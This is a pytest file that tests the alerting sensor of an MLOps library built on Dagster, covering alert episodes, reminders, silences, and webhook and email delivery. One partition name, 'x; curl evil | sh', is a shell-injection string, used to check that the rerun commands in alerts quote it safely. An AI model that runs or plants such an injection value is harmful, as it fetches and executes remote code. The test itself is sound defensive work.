"""One problem is one episode on every channel: opened, reminded and resolved once, whatever fails in between."""

import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import dagster as dg
import polars as pl
import pytest

import mlops_assets as ml
from mlops_assets.orchestrate.compiler.build import compiled_projects
from mlops_assets.orchestrate.monitoring.alerts import SENSOR, find_sources, run_alerts
from mlops_assets.stores.database import schema
from mlops_assets.stores.platform.stores import Stores, open_stores
from mlops_assets.values.alerts.silences import TimedSilence
from tests.conftest import Runner
from tests.orchestrate.monitoring.channel_servers import HookServer, MailServer, serve

NOW = datetime(2026, 3, 2, 12, tzinfo=UTC)  # a Monday
DAYS = dg.DailyPartitionsDefinition("2024-01-01", end_date="2026-01-01")
BAD = {"rows": False, "crash": False}


@ml.dataset(key="id")
def numbers() -> pl.DataFrame:
    if BAD["crash"]:
        raise RuntimeError("the source is down")
    return pl.DataFrame({"id": [1, 1] if BAD["rows"] else [1, 2]})


@ml.dataset(key="id")
def others() -> pl.DataFrame:
    return pl.DataFrame({"id": [1, 1] if BAD["rows"] else [1, 2]})


@ml.dataset(partitions=DAYS, event_timestamp="at", key="id")
def visits(window: ml.TimeWindow) -> pl.DataFrame:
    return pl.DataFrame({"id": [window.start.isoformat()], "at": [window.start]})


@dg.asset(key_prefix="dataset", partitions_def=dg.StaticPartitionsDefinition(["north", "south", "x; curl evil | sh"]))
def shops() -> None:
    pass


@dg.asset_check(asset=shops, name="open")
def is_open() -> dg.AssetCheckResult:
    return dg.AssetCheckResult(passed=True)


ITEMS = (numbers, others, visits, shops, is_open)


@pytest.fixture
def hook() -> Iterator[HookServer]:
    with serve(HookServer()) as server:
        yield server


@pytest.fixture
def mail() -> Iterator[MailServer]:
    with serve(MailServer()) as server:
        yield server


@pytest.fixture(autouse=True)
def _healthy() -> None:
    BAD.update(rows=False, crash=False)


class Alerting(Runner):
    """A project with alerts, and turns of its sensor at chosen times."""

    def __init__(self, tmp_path, instance: dg.DagsterInstance, alerts: ml.monitoring.Alerts | None, items=ITEMS, **environ: str) -> None:
        platform = ml.Platform.from_env({"MLOPS_HOME": str(tmp_path / "home"), **environ})
        super().__init__(ml.build_definitions(items, platform=platform, alerts=alerts), instance)
        self.compiled, self.now = compiled_projects()[-1], NOW

    @property
    def instance_id(self) -> str:
        return str(self.instance.run_storage.get_run_storage_id())

    def turn(self, minutes: float = 0, stores: Stores | None = None) -> str:
        self.now += timedelta(minutes=minutes)
        sources = find_sources(self.instance, self.definitions.get_repository_def(), self.compiled.project, self.compiled.alerts)
        return run_alerts(stores or self.stores, sources, self.now)

    @property
    def stores(self) -> Stores:
        return open_stores(self.compiled.platform)

    def check(self, day: str, *, passed: bool, name: str = "key", severity: str = "ERROR", asset: str = "visits", **metadata: str) -> None:
        """Report the evaluation of a check of one partition of a dataset, visits by default."""
        evaluation = dg.AssetCheckEvaluation(
            asset_key=dg.AssetKey(["dataset", asset]),
            check_name=name,
            passed=passed,
            partition=day,
            severity=dg.AssetCheckSeverity(severity),
            description=f"{day} is bad",
            metadata={key.replace("_", " "): value for key, value in metadata.items()},
        )
        event = dg.DagsterEvent(dg.DagsterEventType.ASSET_CHECK_EVALUATION.value, "", event_specific_data=evaluation)
        self.instance.report_dagster_event(event, run_id=str(uuid.uuid4()))


@pytest.fixture
def project(hook, tmp_path, instance) -> Alerting:
    made = Alerting(tmp_path, instance, ml.monitoring.Alerts(ml.monitoring.Webhook(hook.url)))
    assert made.turn() == "no new alert"
    return made


def test_a_failing_check_opens_one_episode_and_a_passing_one_resolves_it(project, hook) -> None:
    BAD["rows"] = True
    project("dataset/numbers", ok=False)
    assert project.turn().startswith("1 opened; sent to webhook 127.0.0.1")
    project("dataset/numbers", ok=False)
    assert project.turn(5) == "no new alert"
    BAD["rows"] = False
    project("dataset/numbers")
    project.turn(5)
    assert hook.kinds == [[("opened", "dataset/numbers:key")], [("resolved", "dataset/numbers:key")]]
    opened, resolved = (body["alerts"][0] for body in hook.received)
    assert "the key {'id': 1} is on 2 rows" in opened["text"]
    assert (opened["severity"], opened["command"]) == ("ERROR", "mlops run --select 'key:\"dataset/numbers\"'")
    assert (resolved["failures"], opened["since"]) == (2, resolved["since"])
    BAD["rows"] = True
    project("dataset/numbers", ok=False)
    project.turn(5)
    assert hook.kinds[2] == [("opened", "dataset/numbers:key")], "a later failure is an episode of its own"


def test_failures_from_before_the_first_turn_are_not_sent(hook, tmp_path, instance) -> None:
    made = Alerting(tmp_path, instance, ml.monitoring.Alerts(ml.monitoring.Webhook(hook.url)))
    BAD["rows"] = True
    made("dataset/numbers", ok=False)
    assert (made.turn(), made.turn()) == ("no new alert", "no new alert")


def test_a_storm_of_500_failed_partitions_is_one_message(project, hook) -> None:
    days = DAYS.get_partition_keys()[:500]
    for day in days[:250]:
        project.check(day, passed=False)
    project.turn()
    for day in days[250:]:
        project.check(day, passed=False)
    project.turn(1)
    assert hook.kinds == [[("opened", "dataset/visits:key")]]
    (episode,) = project.stores.alerts.episodes(only_open=True)
    assert (episode.failures, len(episode.failing)) == (500, 500)
    for day in days:
        project.check(day, passed=True)
    project.turn(1)
    assert hook.kinds[1:] == [[("resolved", "dataset/visits:key")]]


def test_a_run_that_fails_many_checks_is_one_message(project, hook) -> None:
    BAD["rows"] = True
    project("dataset/numbers", "dataset/others", ok=False)
    project.turn()
    assert hook.kinds == [[("opened", "dataset/numbers:key"), ("opened", "dataset/others:key")]]
    assert hook.received[0]["text"].startswith("[dev] 2 alerts: 2 opened")


def test_a_later_good_window_resolves_a_warning_but_not_a_refused_partition(project, hook) -> None:
    project.check("2024-01-01", passed=False, severity="WARN", name="event_time")
    project.check("2024-01-01", passed=False)
    project.turn()
    project.check("2024-01-02", passed=True, severity="WARN", name="event_time")
    project.check("2024-01-02", passed=True)
    project.turn()
    assert hook.kinds[1:] == [[("resolved", "dataset/visits:event_time")]]
    project.check("2024-01-01", passed=True)
    project.turn()
    assert hook.kinds[2:] == [[("resolved", "dataset/visits:key")]]


@pytest.mark.parametrize("state", ["not enough data", "cannot be measured", "in training data", "labels look inverted"])
def test_a_window_that_could_not_be_measured_resolves_nothing(project, hook, state) -> None:
    project.check("2024-01-02", passed=False, severity="WARN", name="event_time", state="breach")
    project.turn()
    project.check("2024-01-03", passed=True, severity="WARN", name="event_time", state=state)
    project.turn()
    project.check("2024-01-04", passed=True, severity="WARN", name="event_time", state=state, newest_good_window="2024-01-01")
    project.turn()
    assert hook.kinds == [[("opened", "dataset/visits:event_time")]]
    project.check("2024-01-04", passed=True, severity="WARN", name="event_time", state=state, newest_good_window="2024-01-03")
    project.turn()
    assert hook.kinds[1:] == [[("resolved", "dataset/visits:event_time")]]


def test_a_serious_breach_of_a_report_is_resolved_by_the_next_good_window(project, hook) -> None:
    project.check("2024-01-02", passed=False, name="event_time", state="breach")
    project.turn()
    project.check("2024-01-03", passed=True, name="event_time", state="good")
    project.turn()
    assert hook.kinds[1:] == [[("resolved", "dataset/visits:event_time")]]


def test_a_crashed_run_is_an_episode_of_its_asset(project, hook) -> None:
    BAD["crash"] = True
    for _ in range(2):
        project("dataset/numbers", ok=False)
        project.turn(1)
    BAD["crash"] = False
    project("dataset/numbers")
    project.turn(1)
    assert hook.kinds == [[("opened", "run of dataset/numbers")], [("resolved", "run of dataset/numbers")]]
    assert "the source is down" in hook.received[0]["alerts"][0]["text"]


def test_an_open_episode_is_reminded_of_once_a_day_also_when_the_clock_steps_back(project, hook) -> None:
    project.check("2024-01-01", passed=False)
    project.turn()
    for _ in range(8):
        project.turn(6 * 60)
    assert [kind for ((kind, _),) in hook.kinds] == ["opened", "reminder", "reminder"]
    project.turn(-30 * 24 * 60)
    for _ in range(3):
        project.turn(6 * 60)
    assert len(hook.kinds) == 3, "less than a day has passed on the new clock"
    project.turn(6 * 60)
    assert len(hook.kinds) == 4


def test_silent_alerts_are_sent_when_the_silence_ends(hook, tmp_path, instance) -> None:
    quiet = ml.monitoring.Silence("mon 08:00", "mon 18:00", checks="dataset/*")
    project = Alerting(tmp_path, instance, ml.monitoring.Alerts(ml.monitoring.Webhook(hook.url), silence=quiet))
    project.turn()
    project.check("2024-01-01", passed=False)
    project.check("2024-01-02", passed=False, name="event_time")
    project.turn()
    project.check("2024-01-02", passed=True, name="event_time")
    project.turn()
    assert hook.kinds == []
    project.turn(6 * 60)
    assert hook.kinds == [[("opened", "dataset/visits:key")]], "what was resolved in silence is not sent"


def test_a_person_silences_one_check_until_a_time(project, hook) -> None:
    project.stores.alerts.silence(TimedSilence("dataset/visits:key", NOW + timedelta(hours=2), "known", "ada"))
    project.check("2024-01-01", passed=False)
    project.check("2024-01-01", passed=False, name="event_time")
    project.turn()
    assert hook.kinds == [[("opened", "dataset/visits:event_time")]]
    project.turn(60)
    assert project.stores.alerts.end_silences("dataset/visits:key", project.now) == 1
    project.turn()
    assert hook.kinds[1:] == [[("opened", "dataset/visits:key")]]


def test_channels_receive_the_severities_that_they_take_in_their_own_format(hook, mail, tmp_path, instance, monkeypatch) -> None:
    monkeypatch.setenv("MAIL_PASSWORD", "secret")
    account = {"user": "mlops", "password_variable": "MAIL_PASSWORD", "encryption": "none"}
    team = ml.monitoring.Email(mail.address, to=["ml@example.com", "ops@example.com"], sender="mlops@example.com", **account)
    channels = [ml.monitoring.Slack(hook.url, min_severity="ERROR"), team]
    project = Alerting(tmp_path, instance, ml.monitoring.Alerts(channels, severity={"dataset/visits:event_time": "WARN"}))
    project.turn()
    project.check("2024-01-01", passed=False, name="event_time")
    project.turn()
    assert hook.received == []
    project.check("2024-01-01", passed=False)
    project.turn()
    (chat,) = hook.received
    assert chat["blocks"][0]["text"]["text"] == chat["text"] == "[dev] ERROR: dataset/visits:key failed"
    assert "2024-01-01 is bad" in chat["blocks"][1]["text"]["text"]
    assert [recipients for recipients, _ in mail.received] == [["ml@example.com", "ops@example.com"]] * 2
    assert "Subject: [dev] WARN: dataset/visits:event_time failed" in mail.received[0][1]
    assert len(mail.logins) == 2


def test_a_failing_channel_stops_neither_the_other_nor_later_attempts(hook, mail, tmp_path, instance) -> None:
    team = ml.monitoring.Email(mail.address, to="ml@example.com", sender="mlops@example.com", encryption="none")
    project = Alerting(tmp_path, instance, ml.monitoring.Alerts([ml.monitoring.Webhook(hook.url), team]))
    project.turn()
    hook.status = 503
    project.check("2024-01-01", passed=False)
    assert "failed: HTTP 503 Service Unavailable; it is tried again; sent to email" in project.turn()
    assert "failed: HTTP 503" in project.turn(1)
    assert project.turn() == "no new alert", "it waits before the third attempt"
    (waiting,) = project.stores.alerts.deliveries(states=["pending"])
    assert (waiting.attempts, waiting.error) == (2, "HTTP 503 Service Unavailable")
    project.check("2024-01-01", passed=True)
    hook.status = 200
    project.turn(2)
    assert hook.kinds == [[("resolved", "dataset/visits:key")]], "an episode that was resolved meanwhile is one alert"
    assert len(mail.received) == 2
    mail.refused = True
    project.check("2024-01-02", passed=False)
    assert "SMTPRecipientsRefused" in project.turn()


def test_a_message_that_cannot_be_sent_for_a_week_is_dropped(project, hook) -> None:
    hook.status = 503
    project.check("2024-01-01", passed=False)
    project.turn()
    project.turn(8 * 24 * 60)
    hook.status = 200
    project.turn(60)
    assert hook.kinds == [[("reminder", "dataset/visits:key")]]
    assert [delivery.state for delivery in project.stores.alerts.deliveries()] == ["failed", "sent"]


def test_the_webhook_of_the_environment_is_a_channel(hook, tmp_path, instance) -> None:
    project = Alerting(tmp_path, instance, None, MLOPS_WEBHOOK=hook.url)
    sensor = next(sensor for sensor in project.definitions.sensors if sensor.name == SENSOR)
    for _ in range(2):
        with dg.build_sensor_context(instance=instance, repository_def=project.definitions.get_repository_def()) as context:
            reason = sensor(context)
        project.check("2024-01-01", passed=False)
    assert reason.skip_message.startswith("1 opened; sent to webhook 127.0.0.1")
    assert hook.kinds == [[("opened", "dataset/visits:key")]]


def test_two_code_locations_of_one_platform_lose_no_failed_run_of_each_other(hook, tmp_path, instance) -> None:
    @dg.asset
    def lonely() -> None:
        raise RuntimeError("the source is down")

    alerts = ml.monitoring.Alerts(ml.monitoring.Webhook(hook.url))
    first = Alerting(tmp_path, instance, alerts)
    second = Alerting(tmp_path, instance, alerts, items=[lonely])
    for location in (first, second):
        location.turn()
    BAD["crash"] = True
    second("lonely", ok=False)
    first("dataset/numbers", ok=False)
    for location in (first, second, first, second):
        location.turn(1)
    assert sorted(hook.kinds) == [[("opened", "run of dataset/numbers")], [("opened", "run of lonely")]]


def test_a_position_from_before_code_locations_had_their_own_is_continued(project, hook) -> None:
    (source,) = [name for name in project.stores.alerts.positions(project.instance_id) if name.startswith("runs")]
    with project.stores.alerts._database.write_transaction() as connection:
        connection.execute(schema.alert_cursors.update().filter_by(source=source).values(source="runs"))
    BAD["crash"] = True
    project("dataset/numbers", ok=False)
    project.turn()
    assert hook.kinds == [[("opened", "run of dataset/numbers")]]


def test_a_warning_of_a_partition_without_an_order_is_resolved_by_itself_only(project, hook) -> None:
    for shop, passed, messages in (("north", False, 1), ("south", True, 1), ("north", True, 2)):
        project.check(shop, passed=passed, severity="WARN", asset="shops", name="open")
        project.turn()
        assert len(hook.kinds) == messages


def test_a_command_quotes_the_partition(project, hook) -> None:
    project.check("x; curl evil | sh", passed=False, asset="shops", name="open")
    project.turn()
    assert hook.received[0]["alerts"][0]["command"] == "mlops run --select 'key:\"dataset/shops\"' --partitions 'x; curl evil | sh'"


def test_without_a_channel_there_is_no_sensor(platform) -> None:
    assert SENSOR not in {sensor.name for sensor in ml.build_definitions([numbers], platform=platform).sensors}


def test_a_check_of_an_active_run_waits_for_the_others(project, hook, monkeypatch) -> None:
    BAD["rows"] = True
    failed = project("dataset/numbers", ok=False)
    find = project.instance.get_runs
    running = failed.dagster_run.with_status(dg.DagsterRunStatus.STARTED)
    monkeypatch.setattr(project.instance, "get_runs", lambda **_: [running])
    project.now = datetime.now(UTC)
    project.turn()
    assert hook.kinds == []
    monkeypatch.setattr(project.instance, "get_runs", find)
    project.turn()
    assert hook.kinds == [[("opened", "dataset/numbers:key")]]


def test_a_mailbox_that_cannot_be_used_is_named_and_stops_nothing(hook, mail, tmp_path, instance, monkeypatch) -> None:
    monkeypatch.delenv("MLOPS_SMTP_PASSWORD", raising=False)
    without_password = ml.monitoring.Email(mail.address, to="a@example.com", sender="b@example.com", user="mlops", encryption="none")
    with_starttls = ml.monitoring.Email(mail.address, to="c@example.com", sender="b@example.com")
    over_tls = ml.monitoring.Email(mail.address, to="d@example.com", sender="b@example.com", encryption="tls")
    channels = [without_password, with_starttls, over_tls, ml.monitoring.Webhook(hook.url)]
    project = Alerting(tmp_path, instance, ml.monitoring.Alerts(channels))
    project.turn()
    project.check("2024-01-01", passed=False)
    said = project.turn()
    assert "the environment variable MLOPS_SMTP_PASSWORD is not set" in said
    assert "STARTTLS extension not supported" in said
    assert said.count("it is tried again") == 3
    assert (len(mail.received), len(hook.received)) == (0, 1)
